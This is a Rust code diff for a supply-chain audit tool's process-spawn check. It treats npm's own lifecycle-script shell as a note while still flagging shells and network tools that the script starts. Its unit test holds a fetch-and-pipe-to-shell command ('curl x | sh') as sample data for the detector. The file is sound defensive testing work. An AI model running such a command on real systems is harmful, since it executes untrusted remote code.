@@ -8,6 +8,12 @@
 //! The program is named by the basename of the executed path or of `argv[0]` (either one
 //! suffices: `/bin/sh` run as `python` is still a shell); `busybox APPLET` and `openssl s_client`
 //! are looked through. Execs are grouped by pid and argv (one finding per `PATH` search).
+//!
+//! Version 4: in the install phase, a shell whose parent is the installer itself (the first
+//! exec of the audit, npm re-executing as `node` under the same pid) is the installer running
+//! a lifecycle script (`sh -c 'node install.js'`: npm runs every script through a shell): a
+//! note saying so. What that script runs is judged on its own: a shell or a network tool it
+//! starts is still a finding.
 
 use crate::paths::basename;
 use crate::text::{self, Groups};
@@ -16,7 +22,7 @@ use glassbox_model::{Bytes, Event, EventKind, Severity};
 
 pub(crate) const INFO: CheckInfo = CheckInfo {
     id: "process-spawn",
-    version: 3,
+    version: 4,
     claim: "spawns no shells or network tools",
     severity: Severity::Medium,
     channels: &[Channel::Syscalls],
@@ -108,6 +114,8 @@ struct Exec {
     path: Bytes,
     ppid: i32,
     kind: Option<Kind>,
+    /// A shell the installer started for a lifecycle script (version 4): a note.
+    lifecycle: bool,
 }
 
 /// The check's state over one run.
@@ -155,6 +163,10 @@ impl Evaluator for State {
         x.path = path.clone();
         x.ppid = e.ppid;
         x.kind = classify(path, argv);
+        let installer = self.start.as_ref().map(|(pid, _)| *pid);
+        x.lifecycle = e.phase == glassbox_model::Phase::Install
+            && x.kind == Some(Kind::Shell)
+            && installer == Some(e.ppid);
     }
 
     fn finish(self: Box<Self>) -> Evaluation {
@@ -163,6 +175,7 @@ impl Evaluator for State {
         for g in self.groups.items {
             let (pid, argv) = &g.key;
             let what = match g.data.kind {
+                Some(Kind::Shell) if g.data.lifecycle => "the installer ran a lifecycle script: ",
                 Some(Kind::Shell) => "ran a shell: ",
                 Some(Kind::NetworkTool) => "ran a network tool: ",
                 None => "exec ",
@@ -172,13 +185,17 @@ impl Evaluator for State {
             } else {
                 text::argv(argv, ARGV_CHARS)
             };
-            let summary = format!(
+            let mut summary = format!(
                 "{what}{shown} (pid {pid}, parent {}) during {}",
                 g.data.ppid,
                 text::phases(&g.phases)
             );
+            if g.data.lifecycle {
+                summary += ": npm runs every lifecycle script through a shell; what the script \
+                            runs is listed on its own";
+            }
             let finding = INFO.finding(summary, g.ids, g.phases.first().cloned());
-            if g.data.kind.is_some() {
+            if g.data.kind.is_some() && !g.data.lifecycle {
                 eval.findings.push(finding);
             } else {
                 eval.notes.push(finding);
@@ -396,5 +413,39 @@ mod tests {
         assert_eq!(eval.findings.len(), 1);
         assert_eq!(eval.notes.len(), 1);
         assert!(eval.notes[0].summary.contains("(empty argv)"));
+    }
+
+    #[test]
+    fn the_installers_own_lifecycle_shell_is_a_note_what_it_starts_is_not() {
+        let ev = Ev::new()
+            .exec_as(2, 1, "/usr/bin/npm", &["npm", "install"], Phase::Install)
+            .exec_as(
+                13,
+                2,
+                "/bin/sh",
+                &["sh", "-c", "node install.js"],
+                Phase::Install,
+            )
+            .exec_as(
+                14,
+                13,
+                "/bin/sh",
+                &["sh", "-c", "curl x | sh"],
+                Phase::Install,
+            )
+            .exec_as(15, 14, "/usr/bin/curl", &["curl", "x"], Phase::Install)
+            // The server's own shell later, from the same pid as the installer's: a finding.
+            .exec_as(2, 1, "/bin/sh", &["sh", "-c", "id"], Phase::Startup)
+            .build();
+        let e = evaluate(&ev);
+        let flagged: Vec<&str> = e.findings.iter().map(|f| f.summary.as_str()).collect();
+        assert_eq!(flagged.len(), 3, "{flagged:?}");
+        assert!(flagged.iter().any(|s| s.contains("curl x | sh")));
+        assert!(flagged
+            .iter()
+            .any(|s| s.starts_with("ran a network tool: curl")));
+        assert!(e.notes.iter().any(|n| n
+            .summary
+            .starts_with("the installer ran a lifecycle script: sh -c 'node install.js'")));
     }
 }
